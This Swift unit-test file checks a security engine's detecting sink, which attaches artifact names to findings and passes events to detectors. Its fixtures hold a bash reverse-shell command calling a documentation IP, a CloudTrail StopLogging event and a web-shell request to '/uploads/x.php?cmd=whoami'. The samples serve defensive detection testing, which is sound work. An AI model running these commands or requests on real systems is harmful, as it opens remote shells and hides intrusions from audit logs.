import Detectors
import Evidence
import Testing

@testable import Engine

struct DetectingSinkTests {
  private let artifact = Digest(of: Array("a".utf8))

  @Test func aParsersFindingGetsItsArtifactsName() {
    let kept = CollectingSink()
    let sink = DetectingSink(kept, artifact: artifact)
    sink.finding(
      Finding(
        rule: "guardduty.x", title: "t", severity: .high,
        evidence: [EvidenceReference(artifact: .unnamed, locator: Locator(offset: 1, length: 2))], message: "m"))
    #expect(kept.findings.first?.evidence.map(\.artifact) == [artifact])
  }

  @Test func eventsReachDetectorsAndTheResult() {
    let kept = CollectingSink()
    let sink = DetectingSink(kept, artifact: artifact)
    sink.event(
      Event(
        time: nil, dataType: "linux:shell:command", message: "m",
        attributes: [Attribute("command", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")], locator: .whole))
    sink.finish()
    #expect(kept.events.count == 1)
    #expect(
      kept.findings.contains { $0.rule == "reverse-shell.command-line" && $0.evidence.first?.artifact == artifact })
  }

  /// One artifact may give events of several kinds, in any order; each detector sees all that concern it.
  @Test func eachDetectorSeesWhatConcernsIt() {
    let kept = CollectingSink()
    let sink = DetectingSink(kept, artifact: artifact)
    let shell = Event(
      time: nil, dataType: "linux:shell:command", message: "m",
      attributes: [Attribute("command", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")], locator: .whole)
    let call = Event(
      time: nil, dataType: "aws:cloudtrail:entry", message: "m",
      attributes: [
        Attribute("event_source", "cloudtrail.amazonaws.com"), Attribute("event_name", "StopLogging"),
        Attribute("source_ip", "203.0.113.66"), Attribute("identity_type", "IAMUser"), Attribute("user", "u"),
      ], locator: .whole)
    let request = Event(
      time: nil, dataType: "web:access:request", message: "m",
      attributes: [Attribute("path", "/uploads/x.php"), Attribute("query", "cmd=whoami"), Attribute("status", 200)],
      locator: .whole)
    for event in [shell, call, request, call, shell, request] { sink.event(event) }
    sink.finish()
    let rules = kept.findings.map(\.rule)
    #expect(kept.events.count == 6)
    #expect(rules.filter { $0 == "reverse-shell.command-line" }.count == 2)
    #expect(rules.filter { $0 == "cloud.logging-off" }.count == 2)
    #expect(kept.findings.contains { $0.rule.hasPrefix("web.") })
  }
}
